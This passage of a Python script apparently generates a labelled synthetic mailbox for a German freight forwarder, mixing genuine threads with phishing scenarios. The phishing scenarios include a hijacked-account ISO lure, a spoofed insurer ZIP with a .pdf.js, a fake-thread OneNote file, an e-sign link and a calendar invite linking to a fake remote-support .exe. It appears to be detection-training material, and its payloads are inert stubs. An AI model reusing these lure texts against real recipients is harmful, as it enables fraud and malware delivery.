        "applies to invoices from March.", at(2025, 2, 24, 11, 15), cc=[(mihai.name, mihai.email)])
emit(me, "ol19", at(2025, 2, 24, 11, 20), [(lange.name, lange.email)], None, "WG: Invoice TC-2025-0042 - Rheinport Spedition", [],
     "Hallo Ulrike,\n\nanbei das Schreiben von TransCarpatia zur neuen Bankverbindung ab 01.03. Ich habe heute um 11:02 telefonisch bei Herrn Ionescu (Mobilnummer "
     "aus unserer Stammakte seit Oktober) verifiziert. Bitte Stammdaten zum 01.03. ändern, TC-2025-0042 geht noch an Banca Transilvania.\n\nGruß Melanie",
     atts=[("TransCarpatia_schimbare_cont_bancar_2025.pdf", letter, "application/pdf")], topic="Invoice TC-2025-0042 - Rheinport Spedition")
t25.add(mihai, "Hi Melanie, confirmed again in writing: new account at ING from 1 March, the old one at BT stays open until the end of March for incoming "
        "payments. Thank you for calling - that is how it should be done.\n\nMihai", at(2025, 2, 24, 21, 52, BUC), GH, sigtext=IOS,
        to=[(me.name, me.email)], cc=[(andreea.name, andreea.email)],
        scen=("G4", "haulier's owner confirms the verified bank change from Outlook for iOS at 21:52"))
t25.add(andreea, "Dear Ms Brückner,\n\nplease find attached invoice TC-2025-0107 for March, 5,940.00 EUR - the first one with our new ING account, as per our "
        "letter of 21 February.", at(2025, 3, 31, 10, 20, BUC), GH,
        atts=[("TC-2025-0107.pdf", pdf(["TRANSCARPATIA SRL - Factura / Invoice TC-2025-0107", "Groupage Duisburg - Arad/Timisoara, March 2025", "Total: 5.940,00 EUR",
                                        f"IBAN {IBAN_TC_NEW} (ING Bank)"], producer="SmartBill", when="20250331101000", zone="+03'00'"), "application/pdf")],
        scen=("G5", "first invoice with the new bank account that was verified by phone five weeks earlier"))
t25.add(me, "Thank you, forwarded to accounting.", at(2025, 3, 31, 11, 0))

# ================================================================ T27 Brockhoff: T1 transit; OOO (G8), stand-in colleague (G7), A4 server hijack (ISO)
t27 = Thread("T27", katja, "T1 Rotterdam - Duisburg, Container MSKU 7710428")
t27.add(me, "Hallo Frau Möller,\n\nder Container MSKU 7710428 (Stanzmaschine aus Taiwan für Brandt Verpackungen) wird am Donnerstag in Rotterdam (ECT Delta) "
        "gestellt und soll im T1 nach Duisburg. Können Sie die Gestellung in Duisburg übernehmen? Bestimmungszollstelle Duisburg (DE004401).", at(2025, 1, 20, 8, 40))
t27.add(katja, "Vielen Dank für Ihre Nachricht. Ich bin bis einschließlich 24.01.2025 nicht im Büro. In dringenden Fällen wenden Sie sich bitte an meinen "
        "Kollegen Jan Peters (j.peters@brockhoff-zoll.example, Tel. 0203 555 8134) oder an zoll@brockhoff-zoll.example.\n\nKatja Möller\n"
        "Brockhoff & Partner Zollagentur GmbH", at(2025, 1, 20, 8, 40) + datetime.timedelta(seconds=31), GH, sig=False, quote=False, detached=True,
        subj="Automatische Antwort: T1 Rotterdam - Duisburg, Container MSKU 7710428",
        extra=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All"), ("X-MS-Exchange-Inbox-Rules-Loop", katja.email)],
        scen=("G8", "customs agent's Outlook out-of-office auto-reply"))
t27b = Thread("T27b", janp, "WG: T1 Rotterdam - Duisburg, Container MSKU 7710428")
t27b.add(me, "Hallo Herr Peters,\n\nFrau Möller ist laut Abwesenheitsnotiz nicht da - können Sie das übernehmen?\n\nVon: Melanie Brückner\nGesendet: Montag, "
         f"20. Januar 2025 08:40\nAn: Katja Möller <{katja.email}>\nBetreff: T1 Rotterdam - Duisburg, Container MSKU 7710428\n\n" + t27.last["plain"],
         at(2025, 1, 20, 9, 0), sig=False)
t27b.add(janp, "Hallo Frau Brückner,\n\nich vertrete Frau Möller diese Woche und übernehme das gern. Für die Gestellung brauche ich die Bill of Lading, die "
         "Handelsrechnung und die MRN des T1 vom niederländischen Abfertiger. Sobald der Container in Duisburg ist, bitte eine kurze Info mit Ankunftszeit.",
         at(2025, 1, 20, 10, 15), GH, scen=("G7", "customs agent's colleague answers for the first time while Katja is away (named in her out-of-office)"))
t27b.add(me, "Hallo Herr Peters,\n\ndanke! B/L und Handelsrechnung anbei, die T1-MRN schicke ich Ihnen, sobald der Abfertiger in Rotterdam sie hat.",
         at(2025, 1, 20, 10, 40),
         atts=[("BL_ONEYTPE4418812.pdf", pdf(["Bill of Lading ONEYTPE4418812", "Container MSKU 7710428 40'HC", "Kaohsiung - Rotterdam", "Consignee: Brandt Verpackungen GmbH"],
                                             producer="ONE e-B/L", when="20250110081000", zone="+08'00'"), "application/pdf"),
               ("Invoice_TW-24-1187.pdf", pdf(["Chen Yang Machinery Co., Ltd. - Commercial Invoice TW-24-1187", "1 Die-cutting machine CY-1060", "USD 184,500.00 CIF Rotterdam"],
                                              when="20241228100000", zone="+08'00'"), "application/pdf")])
t27b.add(janp, "Danke. Das T1 ist eröffnet (MRN 25NL000146789012T3), Gestellungsfrist 30.01. Bitte den Container direkt ins Zolllager Logport bringen.",
         at(2025, 1, 23, 13, 40))
t27.add(katja, "Hallo Frau Brückner,\n\nich bin zurück - danke an Jan fürs Übernehmen. Die Gestellung ist erfolgt, der Container ist zollrechtlich frei. Die "
        "Einfuhrabgaben wurden über unser Aufschubkonto bezahlt, die Rechnung kommt separat.", at(2025, 1, 27, 9, 5))
t27.add(me, "Hallo Frau Möller,\n\nder nächste Container für Brandt: TGHU 8812044, Ankunft Rotterdam am 17.03., gleiches Verfahren wie im Januar. Können Sie die "
        "Zollunterlagen wieder vorbereiten?", at(2025, 3, 12, 15, 30))
t27.add(katja, "Hallo Frau Brückner,\n\nja, gern. Bitte schicken Sie mir B/L und Handelsrechnung, sobald Sie sie haben.", at(2025, 3, 12, 16, 10))
t27.add(katja, "Hallo Frau Brückner,\n\nanbei die vorbereiteten Zollunterlagen für den Container TGHU 8812044 zur Prüfung. Bitte die Datei öffnen und bis Montag "
        "früh bestätigen, sonst verfällt die Voranmeldung.", at(2025, 3, 15, 2, 13), HJ("server-hijack"), detached=True, qrec=2, refs=list(t27.refs[:3]),
        atts=[("Zollunterlagen_TGHU8812044.iso", iso_image("ZOLL_TGHU8812044", ["Zollunterlagen_TGHU8812044.pdf.lnk", "data.dll"]), "application/octet-stream")],
        scen=("A4", "customs agent's real hosted Exchange (same headers): Saturday 02:13, 'Zollunterlagen' ISO disk image, quotes Melanie's request"))
t27.add(me, "Hallo Frau Möller,\n\nB/L und Handelsrechnung für TGHU 8812044 anbei.\n\nEine Frage: Sie haben mir in der Nacht auf Samstag eine ISO-Datei "
        "„Zollunterlagen“ geschickt - war das wirklich von Ihnen? Von Ihnen kommen sonst immer PDF- oder ZIP-Dateien.", at(2025, 3, 17, 8, 30),
        atts=[("BL_ONEYTPE5520371.pdf", pdf(["Bill of Lading ONEYTPE5520371", "Container TGHU 8812044 40'HC", "Kaohsiung - Rotterdam"], producer="ONE e-B/L",
                                            when="20250305071000", zone="+08'00'"), "application/pdf")])
t27.add(katja, "Hallo Frau Brückner,\n\nnein, die ist nicht von mir - danke fürs Nachfragen! Unser Hoster hat festgestellt, dass mein Kennwort über eine gefälschte "
        "Anmeldeseite abgegriffen wurde; es ist inzwischen geändert. Bitte die ISO-Datei löschen. Die echten Unterlagen schicke ich heute Mittag.",
        at(2025, 3, 17, 9, 2))
t27.add(katja, "Hallo Frau Brückner,\n\nhier wie angekündigt die Vorabunterlagen für TGHU 8812044 (Entwurf der Zollanmeldung und Vollmacht), diesmal als PDF.",
        at(2025, 3, 17, 12, 40),
        atts=[("Entwurf_Zollanmeldung_TGHU8812044.pdf", pdf(["Brockhoff & Partner Zollagentur - Entwurf Zollanmeldung (ATLAS)", "Container TGHU 8812044",
                                                            "Anmelder: Brandt Verpackungen GmbH, Vertreter: Brockhoff & Partner (direkte Vertretung)"], producer="dakosy ZODIAC",
                                                           when="20250317123500"), "application/pdf")])

# ================================================================ T28 Rhenania damage claim; portal link (G23), adjuster (G25), A12 DNS pw-zip, settlement (G24)
t28 = Thread("T28", nicole, "Schadensmeldung - Auftrag 25-0233, Nässeschaden Kartonagen (Oberhausen - Breda)")
t28.add(me, "Sehr geehrte Frau Steinbach,\n\nhiermit melden wir einen Schaden aus unserer Verkehrshaftungsversicherung (Vertrag VH-4471820): Bei der Tour 25-0233 "
        "(Brandt Verpackungen, Oberhausen - Van Gelder Retail, Breda) wurden am 06.03. bei der Anlieferung an 12 von 24 Paletten Faltschachteln Nässeschäden "
        "festgestellt. Ursache vermutlich ein Riss in der Plane (eigenes Fahrzeug DU-RP 214). Der Empfänger hat unter Vorbehalt angenommen, der Vermerk steht "
        "auf dem CMR. Warenwert der beschädigten Paletten laut Brandt ca. 7.800 €.\n\nCMR, Fotos und die Warenrechnung des Versenders anbei.", at(2025, 3, 10, 11, 20),
        atts=[("CMR_25-0233.pdf", pdf(["CMR 25-0233", "Brandt Verpackungen GmbH - Van Gelder Retail DC Breda", "24 Paletten Faltschachteln",
                                       "Vorbehalt: 12 Pal. nass, Kartons aufgeweicht"], producer="Canon iR-ADV C5535 Scan", when="20250307081000"), "application/pdf"),
              ("Schaden_25-0233_1.jpg", jpeg("samsung", "SM-A546B", "2025:03:06 07:12:40", 70), "image/jpeg"),
              ("Schaden_25-0233_2.jpg", jpeg("samsung", "SM-A546B", "2025:03:06 07:13:05", 66), "image/jpeg"),
              ("Rechnung_Brandt_RE-25-0311.pdf", pdf(["Brandt Verpackungen GmbH - Rechnung RE-25-0311", "24 Pal. Faltschachteln FS-400", "Warenwert 15.600,00 EUR netto"],
                                                     producer="Lexware", when="20250305090000"), "application/pdf")])
UPL = f"https://schaden.rhenania-versicherung.example/upload/SN-2025-0412?t={alnum(32)}"
t28.add(nicole, "Sehr geehrte Frau Brückner,\n\nvielen Dank für Ihre Schadenmeldung. Wir haben den Schaden unter der Nummer SN-2025-0412 angelegt. Bitte laden Sie "
        "weitere Unterlagen (Reklamationsschreiben des Empfängers, Reparaturnachweis der Plane, Fahrerbericht) über unser Schadenportal hoch:\n" + UPL +
        "\nDer Link ist 30 Tage gültig.\n\nAufgrund der Schadenhöhe beauftragen wir einen Havariekommissar mit der Besichtigung.", at(2025, 3, 11, 9, 40), GH,
        scen=("G23", "insurer's claims handler sends a link to its own claims upload portal"))
t28.add(me, "Sehr geehrte Frau Steinbach,\n\ndanke, die Unterlagen sind hochgeladen. Die beschädigten Paletten stehen noch bis Ende nächster Woche bei Van Gelder "
        "in Breda.", at(2025, 3, 11, 11, 5))
t28.add(nicole, "Sehr geehrte Frau Brückner,\n\nwir haben Herrn Ralf Terhaar (Terhaar Havariekommissariat, Emmerich) mit der Besichtigung beauftragt. Er ist in "
        "Kopie und meldet sich bei Ihnen zur Terminabstimmung.", at(2025, 3, 12, 10, 15), cc=[(terhaar.name, terhaar.email)])
t28.add(terhaar, "Sehr geehrte Frau Brückner,\n\nich würde die Ware gern am Freitag, 14.03., gegen 10 Uhr in Breda besichtigen. Können Sie das beim Empfänger "
        "ankündigen und mir einen Ansprechpartner vor Ort nennen? Außerdem bräuchte ich Fotos der beschädigten Plane bzw. die Reparaturrechnung.",
        at(2025, 3, 12, 14, 22), GH, cc=[(nicole.name, nicole.email)], orig_ip=terhaar.ip,
        scen=("G25", "loss adjuster (new correspondent, introduced and Cc'd by the insurer) writes for the first time"))
t28.add(me, "Sehr geehrter Herr Terhaar,\n\nFreitag 10 Uhr passt. Ansprechpartner bei Van Gelder ist Herr Jeroen Smits (Warenannahme, +31 76 555 2210). Fotos der "
        "Plane und die Rechnung der Werkstatt anbei.", at(2025, 3, 12, 15, 0), to=[(terhaar.name, terhaar.email)], cc=[(nicole.name, nicole.email)],
        atts=[("Plane_DU-RP214.jpg", jpeg("samsung", "SM-A546B", "2025:03:07 15:40:02", 60), "image/jpeg"),
              ("Rechnung_Planenservice_4471.pdf", pdf(["Planen-Service Rhein GmbH - Rechnung 4471", "DU-RP 214: Plane rechts, Riss 40 cm geklebt", "Betrag 312,40 EUR"],
                                                      when="20250310120000"), "application/pdf")])
t28.add(terhaar, "Sehr geehrte Frau Brückner,\n\ndie Besichtigung hat stattgefunden. 12 Paletten sind durchfeuchtet, davon 9 Totalschaden, 3 können umgepackt "
        "werden. Mein Bericht geht diese Woche an die Rhenania. Die Ursache (Planenriss an der rechten Seite, ca. 40 cm) ist eindeutig.",
        at(2025, 3, 17, 16, 40), cc=[(nicole.name, nicole.email)], orig_ip=terhaar.ip)
autoh = Pt("Nicole Steinbach | Rhenania Schaden", "verkauf@autohaus-terhorst.example", "roundcubede", "cpanel-autohaus", "")
t28.add(autoh, "Sehr geehrte Frau Brückner,\n\nzu Schaden SN-2025-0412 liegt die Regulierungsvereinbarung vor. Bitte prüfen und unterschreiben Sie die "
        "Abfindungserklärung im Anhang bis 30.04., damit die Zahlung angewiesen werden kann. Das Dokument ist aus Datenschutzgründen verschlüsselt.\n\n"
        "Passwort: SN0412\n\nMit freundlichen Grüßen\nNicole Steinbach\nSchadenmanagement Transport", at(2025, 4, 28, 9, 12), HJ("display-name-spoof"), sig=False,
        detached=True, orig_ip="41.58.112.7",
        atts=[("Abfindungserklaerung_SN-2025-0412.zip", zip_encrypted([("Abfindungserklaerung_SN-2025-0412.pdf.js",
              b"var dokument = 'Abfindungserklaerung SN-2025-0412';\nWScript.Echo(dokument);\n")], "SN0412"), "application/zip")],
        scen=("A12", "'Nicole Steinbach | Rhenania Schaden' from a car dealer's webmail: password-protected ZIP (.pdf.js), password in the text, quotes the claim thread"))
t28.add(nicole, "Sehr geehrte Frau Brückner,\n\nnach Vorliegen des Havarieberichts regulieren wir den Schaden wie folgt: Warenwert 9 Paletten Totalschaden "
        "5.850,00 €, Umpackkosten 3 Paletten 420,00 €, abzüglich Selbstbehalt 500,00 € = 5.770,00 €. Die Zahlung erfolgt an Ihr bei uns hinterlegtes Konto; "
        "Sie müssen nichts unterschreiben. Das Regulierungsschreiben finden Sie anbei.", at(2025, 5, 12, 14, 5), GH,
        atts=[("Regulierungsschreiben_SN-2025-0412.pdf", pdf(["Rhenania Transportversicherung AG - Regulierung Schaden SN-2025-0412", "VN: Rheinport Spedition GmbH, VH-4471820",
                                                             "Entschaedigung: 5.770,00 EUR", "Zahlung auf das hinterlegte Konto"], producer="Rhenania KOMPASS Schaden 4.2",
                                                            when="20250512140000"), "application/pdf")],
        scen=("G24", "insurer's real settlement letter (PDF) in the claim thread"))
t28.add(me, "Sehr geehrte Frau Steinbach,\n\nvielen Dank für die schnelle Regulierung, ich gebe die Information an Brandt Verpackungen weiter.\n\nZur Info: Am 28.04. "
        "kam bei uns eine Mail mit Ihrem Namen, aber von einer fremden Absenderadresse an (verschlüsselte ZIP-Datei „Abfindungserklärung“). Wir haben sie nicht "
        "geöffnet.", at(2025, 5, 12, 15, 10))
t28.add(nicole, "Sehr geehrte Frau Brückner,\n\ndanke für den Hinweis. Diese Mail stammt nicht von uns; wir versenden Dokumente nur über das Schadenportal oder als "
        "PDF von unserer eigenen Domain. Ich habe den Fall an unsere IT-Sicherheit gegeben.", at(2025, 5, 13, 8, 30))

# ================================================================ A15 fake thread: adjuster's 'advance invoice' with a fabricated quote, OneNote
kroll = Pt("Dr. Kroll Sachverständigenbüro", "gutachten@kroll-havarie-sv.example", "ol16", "vps-kroll", "")
fq = ("Sehr geehrte Frau Brückner,\n\nwie besprochen übersenden wir Ihnen den Vorabzug unseres Gutachtens zum Transportschaden sowie die Vorschussrechnung über "
      "1.180,00 €. Das Dokument ist als OneNote-Notizbuch beigefügt (Fotos in Originalauflösung). Bitte öffnen Sie die Datei und klicken Sie doppelt auf "
      "„Dokument anzeigen“.\n\nMit freundlichen Grüßen\nDr. Heinz Kroll\nÖ.b.u.v. Sachverständiger für Transportschäden\nKroll Sachverständigenbüro · Dortmund\n\n"
      f"Von: Melanie Brückner [mailto:{me.email}] \nGesendet: Montag, 28. April 2025 14:12\nAn: gutachten@kroll-havarie-sv.example\n"
      "Betreff: Transportschaden - Kostenvorschuss Gutachten\n\nSehr geehrte Damen und Herren,\n\nbitte senden Sie uns das Gutachten zum Transportschaden und die "
      "Vorschussrechnung, damit wir den Vorgang an unseren Versicherer weitergeben können.\n\nMit freundlichen Grüßen\nMelanie Brückner\nRheinport Spedition GmbH")
emit(kroll, "ol16", at(2025, 5, 6, 10, 48), [(me.name, me.email)], None, "AW: Transportschaden - Kostenvorschuss Gutachten", [f"<{hx(32)}@RPS-EX01.rheinport.local>"],
     fq, label=HJ("fake-thread"), atts=[("Gutachten_Vorabzug_0425.one", onenote("Gutachten Vorabzug"), "application/onenote")],
     scen=("A15", "stranger 'Sachverständigenbüro' pretends an earlier claims discussion: fabricated Outlook quote of Melanie, unknown parent id, OneNote attachment"))

# ================================================================ T29 Schäfer continued: revived in January, new number via GMX app (G21), A6 server hijack (PDF e-sign link)
t29.add(me, "Hallo Herr Schäfer,\n\nhaben Sie in KW 6 Kapazität? Drei Container von Logport I zum Hafen Krefeld.", at(2025, 1, 27, 9, 0))
t29.add(dirk, "KW 6 geht, außer Freitag.\n\nGruß Dirk Schäfer", at(2025, 1, 27, 13, 22))
t29.add(me, "Dann Dienstag bis Donnerstag je einer, die Details kommen als Transportauftrag aus dem TMS.", at(2025, 1, 27, 13, 50))
t29.add(dirk, "Moin Frau Brückner,\n\nkurze Info: Ich habe ab sofort eine neue Handynummer, die alte ist gekündigt: 0157 5558 4402. Ich schreibe jetzt meistens "
        "vom Handy aus der GMX App.\n\nGruß Dirk Schäfer", at(2025, 3, 4, 6, 45), GH, client="gmxapp", orig_ip="176.0.148.31",
        sigtext="\n\nGesendet mit der GMX Mail App",
        scen=("G21", "owner-driver announces a new mobile number and now writes from the GMX app (same GMX account)"))
t29.add(me, "Danke, Herr Schäfer - unter der alten Nummer habe ich Sie eben nicht mehr erreicht, unter der neuen schon. Ist gespeichert.", at(2025, 3, 4, 9, 10))
t29.add(dirk, "Passt! Bis Donnerstag.", at(2025, 3, 4, 10, 5), client="gmxapp", orig_ip="176.0.148.31", sigtext="\n\nGesendet mit der GMX Mail App")
t29.add(me, "Hallo Herr Schäfer,\n\nnächste Woche bräuchte ich Sie Dienstag und Mittwoch für je zwei Container DIT - Weidner Krefeld, Slots 09:00 und 13:00.",
        at(2025, 5, 12, 14, 20))
t29.add(dirk, "Geht klar, beide Tage.", at(2025, 5, 12, 17, 58), client="gmxapp", orig_ip="176.0.151.204", sigtext="\n\nGesendet mit der GMX Mail App")
SIGN = f"https://sign-dokument-portal.example/v/{alnum(22)}"
t29.add(dirk, "Hallo Frau Brückner,\n\nwie besprochen der neue Frachtvertrag für 2025 (Containerverkehr Logport/DIT) - bitte digital gegenzeichnen, dann "
        "kann ich die Touren ab Juni fest einplanen. Der Link zur Unterschrift ist im PDF.\n\nGruß Dirk Schäfer", at(2025, 5, 14, 13, 18), HJ("server-hijack"),
        detached=True, qrec=len(t29.recs) - 2, refs=list(t29.refs[:-1]),
        atts=[("Frachtvertrag_Schaefer_Transporte_2025.pdf", pdf(["Dirk Schäfer Transporte - Frachtvertrag 2025", "Containerverkehr Logport I / DIT / Krefeld",
                                                                 "Dokument zur elektronischen Unterschrift bereit.", "DOKUMENT PRÜFEN UND UNTERSCHREIBEN >"],
                                                                uris=[SIGN], producer="Skia/PDF m124", when="20250514121500"), "application/pdf")],
        scen=("A6", "owner-driver's real GMX account through GMX webmail (his earlier client, same path): 'Frachtvertrag' PDF whose button links to an e-sign page on an unknown domain"))

# ================================================================ T33 internal: forwarded DATEV payment run (G14)
t33 = Thread("T33", lange, "WG: Zahlungsvorschlag 20.03. - Frachtführer")
zv = ("Hallo Melanie,\n\nanbei der Zahlungsvorschlag für den 20.03. (nur Frachtführer). Bitte einmal drüberschauen, ob alles freigegeben ist - besonders "
      "Trans-Pol: Bezahlt wird NUR an die Santander-Verbindung aus den Stammdaten.\n\nViele Grüße\nUlrike\n\nVon: DATEV Zahlungsverkehr <noreply@zv.datev.example>\n"
      "Gesendet: Freitag, 14. März 2025 09:12\nAn: Ulrike Lange <u.lange@rheinport-spedition.example>\nBetreff: Zahlungsvorschlag 20.03. - Frachtführer\n\n"
      "Der Zahlungsvorschlag 2025-03-20-01 wurde erstellt (14 Positionen, 38.412,60 EUR). Die Übersicht finden Sie im Anhang. Die Freigabe erfolgt in "
      "DATEV Zahlungsverkehr.")
t33.add(lange, zv, at(2025, 3, 14, 9, 30), GH, sig=False,
        atts=[("Zahlungsvorschlag_2025-03-20-01.pdf", pdf(["DATEV Zahlungsverkehr - Zahlungsvorschlag 2025-03-20-01", "TRANS-POL Sp. z o.o. 3.450,00 EUR (Santander)",
                                                          "Verhoeven Transport B.V. 11.842,30 EUR", "TransCarpatia SRL 6.380,00 EUR", "Summe 38.412,60 EUR (14 Positionen)"],
                                                         producer="DATEV Zahlungsverkehr", when="20250314091200"), "application/pdf")],
        scen=("G14", "accounting colleague forwards the DATEV payment-run PDF (WG:, no reply headers)"))
t33.add(me, "Hallo Ulrike, sieht gut aus. TransCarpatia geht ab März an ING, wie besprochen - das ist ja schon in den Stammdaten.", at(2025, 3, 14, 10, 15),
        to=[(lange.name, lange.email)])
t33.add(lange, "Ja, ist drin (Vier-Augen-Freigabe durch Thomas am 25.02.). Danke!", at(2025, 3, 14, 10, 40))

# ================================================================ T35 AK-Dispo mailing list (G28)
heiko = Pt("Heiko Dresen", "h.dresen@dresen-logistik.example", "tbde", "list", "\n\n-- \nHeiko Dresen · Dresen Logistik GmbH · Moers · 02841 555 3300")
sabrina = Pt("Sabrina Vogt", "s.vogt@spedition-rhein-maas.example", "ol16", "list", "\n\nSabrina Vogt\nDisposition | Spedition Rhein-Maas GmbH, Krefeld\nTel. 02151 555 7720")
kuehn = Pt("Andreas Kühn", "kuehn@vlnr.example", "ol16", "list", "\n\nAndreas Kühn\nGeschäftsstelle VLNR e.V. · Verband Logistik Niederrhein\nTel. 0203 555 1200")
LTO = [("AK-Dispo", LIST)]


def list_thread(tid, subj):
    th = Thread(tid, heiko, "[AK-Dispo] " + subj, inbox_to=LTO)
    return th


def ladd(th, who, text, t, label=None, scen=None, **kw):
    ex = list_extra(None)
    if who is me:
        return th.add(me, text, t, to=LTO, subj=None if th.refs else subj_plain(th), sigtext="\n\nGruß\nMelanie Brückner (Rheinport Spedition, Duisburg)", **kw)
    sig = who.sig + LIST_FOOT
    return th.add(who, text, t, label, to=LTO, sigtext=sig, extra=ex, scen=scen, no_html=True, **kw)


def subj_plain(th): return th.subj


t35 = list_thread("T35", "Warnung: Phantomfrachtführer auf Frachtenbörsen")
ladd(t35, kuehn, "Liebe Mitglieder,\n\nin den letzten Wochen häufen sich Fälle, in denen Betrüger mit übernommenen Zugängen echter Frachtführer auf "
     "Frachtenbörsen Ladungen annehmen und die Ware an eine Zwischenadresse umleiten. Bitte prüft bei neuen Partnern Handelsregister und "
     "Versicherungsbestätigung und ruft die Firmennummer aus dem Register zurück, nicht die Nummer aus der Mail.\n\nDer Verband bietet am 20.02. ein "
     "Webinar an.", at(2025, 2, 3, 8, 30))
ladd(t35, heiko, "Danke Andreas. Uns hat es letzten Monat fast erwischt: ein „Frachtführer“ mit echter Lizenznummer und gefälschter Mail-Domain.",
     at(2025, 2, 3, 9, 50))
ladd(t35, sabrina, "Hallo zusammen,\n\nhier zwei hilfreiche Links zur Prüfung von Frachtführern: das gemeinsame Registerportal "
     "(https://www.handelsregister.example) und die EU-Lizenzdatenbank (https://transport.ec-europa.example/licences). Die Anmeldung zum Webinar läuft über "
     "https://www.vlnr.example/veranstaltungen/webinar-frachtbetrug-2025\n\nSabrina", at(2025, 2, 3, 11, 20), GH,
     scen=("G28", "mailing-list reply with three links, list headers and list footer"))
ladd(t35, me, "Danke für die Links, wir sind beim Webinar mit zwei Personen dabei.", at(2025, 2, 3, 12, 10))

# ================================================================ T8 internal: the boss from his iPhone at 23:18 (G29)
t8 = Thread("T8", kraemer, "Tour morgen Genk - Fahrer krank")
t8.add(me, "Hallo Thomas,\n\nRalf (DU-RP 214) hat sich für morgen krankgemeldet. Ich habe Verhoeven für die Genk-Tour angefragt, die Antwort steht noch aus. "
        "Falls sie absagen, müssten wir die Tour auf Freitag schieben - Schürmann wäre informiert.", at(2025, 4, 9, 17, 40))
t8.add(kraemer, "Danke Melanie. Falls Verhoeven nicht kann, frag Trans-Pol, die haben diese Woche einen leeren Lkw in Venlo. Bin morgen ab 7 im Büro.\n\n"
        "Von meinem iPhone gesendet", at(2025, 4, 9, 23, 18), GH, sig=False, client="iphoneint", infra="iphoneint",
        scen=("G29", "the boss answers from his iPhone (ActiveSync on the own Exchange) at 23:18"))
t8.add(me, "Guten Morgen, Verhoeven fährt. Alles gut.", at(2025, 4, 10, 7, 5))

# ================================================================ O2 Verhoeven answers FrachtPilot's relay of Melanie's offer (parent only went to Verhoeven)
relay_mid = f"<0107019{hx(9)}-{ruuid()}-000000@eu-central-1.amazonses.com>"
o2q = ("Neue Nachricht zu Ihrem Angebot auf FrachtPilot\n\nAngebot FP-7781204: Duisburg (DE-47229) - Rotterdam (NL-3199), Ladedatum 26.05.2025, 13,6 ldm, "
       "24 t, Plane\nVon: Rheinport Spedition GmbH, Melanie Brückner\n\n„Hallo, wir hätten die Ladung am Montag für Sie, Preis wie angefragt 780 EUR. "
       "Bitte direkt per Mail antworten.“\n\nAntworten Sie auf diese E-Mail, um direkt an Rheinport Spedition GmbH zu schreiben.")
o2hdr = ("Van: FrachtPilot <noreply@notify.frachtpilot.example>\nVerzonden: dinsdag 20 mei 2025 09:02\nAan: Marloes Hendriks <m.hendriks@verhoeven-transport.example>\n"
         "Onderwerp: FrachtPilot: Nachricht zu Ihrem Angebot FP-7781204 (Duisburg - Rotterdam, 26.05.)")
o2body = ("Hi Melanie,\n\nthanks for the offer via FrachtPilot - we take the Rotterdam load on Monday 26/05 for 780 EUR. Thijs will send the plate on Friday." + marloes.sig)
o2quote = (o2hdr, o2q, "ms")
emit(marloes, "exonl", at(2025, 5, 20, 9, 41, AMS), [(me.name, me.email)], None, "RE: FrachtPilot: Nachricht zu Ihrem Angebot FP-7781204 (Duisburg - Rotterdam, 26.05.)",
     [relay_mid], o2body + render_quote_plain(*o2quote), quote=o2quote, label=GO, topic="FrachtPilot: Nachricht zu Ihrem Angebot FP-7781204 (Duisburg - Rotterdam, 26.05.)",
     scen=("O2", "haulier answers the freight exchange's relay of Melanie's offer, which only went to the haulier (parent not in the mailbox)"))
emit(me, "ol19", at(2025, 5, 20, 10, 5), [(marloes.name, marloes.email)], None, "AW: FrachtPilot: Nachricht zu Ihrem Angebot FP-7781204 (Duisburg - Rotterdam, 26.05.)",
     [relay_mid, pending[-1][4][0]], "Hi Marloes,\n\ngreat, booked as order 25-0498. Loading Monday 26/05 from 08:00 at Logport I, gate 3." + SIG_ME,
     topic="FrachtPilot: Nachricht zu Ihrem Angebot FP-7781204 (Duisburg - Rotterdam, 26.05.)")

# ================================================================ A16 fake thread: TMS vendor "software update" with an .ics invitation
nova = Pt("novadata Kundenservice", "service@novadata-kundenservice.example", "phpmailer", "vps-novadata", "")
UPD = f"https://novadata-kundenservice.example/fernwartung/DISPOnova_Update_9.4_Client.exe?k={alnum(10)}"
ics = ("BEGIN:VCALENDAR\r\nPRODID:-//novadata//Terminplaner 2.1//DE\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n"
       f"UID:{ruuid()}\r\nDTSTAMP:20250520T061500Z\r\nDTSTART:20250522T060000Z\r\nDTEND:20250522T070000Z\r\n"
       "SUMMARY:DISPOnova Update 9.4 - Fernwartung Rheinport Spedition\r\n"
       f"DESCRIPTION:Bitte vor dem Termin den Fernwartungs-Client installieren: {UPD}\\nTicket NV-2025-3318\r\n"
       f"URL:{UPD}\r\nLOCATION:Fernwartung (online)\r\nORGANIZER;CN=novadata Kundenservice:mailto:service@novadata-kundenservice.example\r\n"
       f"ATTENDEE;RSVP=TRUE;CN=Melanie Brückner:mailto:{me.email}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
emit(nova, "phpmailer", at(2025, 5, 20, 8, 15), [(me.name, me.email)], None, "RE: DISPOnova Update 9.4 - Ihr Wartungstermin", [f"<{alnum(32)}@novadata-kundenservice.example>"],
     "Sehr geehrte Frau Brückner,\n\nwie vereinbart bestätigen wir den Termin für das Update Ihres DISPOnova-Systems auf Version 9.4 am Donnerstag, 22.05., "
     "08:00 Uhr. Damit unser Techniker sich verbinden kann, installieren Sie bitte vorab den Fernwartungs-Client über den Link in der Termineinladung "
     "(Anhang) auf Ihrem Arbeitsplatz-PC. Ohne Installation kann das Update nicht durchgeführt werden und die Lizenz für Version 9.3 läuft am 31.05. aus.\n\n"
     "Mit freundlichen Grüßen\nIhr novadata Kundenservice\nnovadata Logistiksoftware GmbH",
     atts=[("Wartungstermin_DISPOnova_9.4.ics", ics.encode(), "text/calendar; method=REQUEST; charset=UTF-8")], label=HJ("fake-thread"),
     scen=("A16", "stranger posing as the TMS vendor: 'RE:' update appointment with no quote and an unknown parent id, .ics invitation with a link to a 'remote-support client'"))

# ================================================================ stand-alone notifications (sender history across the whole period)
ORDERS = ["24-10288", "24-10301", "24-10311", "24-10455", "24-10552", "24-10577", "24-10610", "24-10690", "24-11201", "24-11590", "24-11873",
          "25-0031", "25-0058", "25-0072", "25-0107", "25-0207", "25-0219", "25-0233", "25-0266", "25-0288", "25-0301", "25-0355", "25-0412", "25-0498"]
STAT = [("Abgeliefert", ["Frachtführer: {c}", "Ablieferung: {d} {h}", "POD: erfasst (Scan)"]),
        ("Ladebeginn gemeldet", ["Frachtführer: {c}", "Ladestelle: Logport I, Tor 3", "Meldung: {d} {h}"]),
        ("ETA geändert", ["Frachtführer: {c}", "Neue ETA: {d} {h}", "Grund: Stau / Verkehrsbehinderung"]),
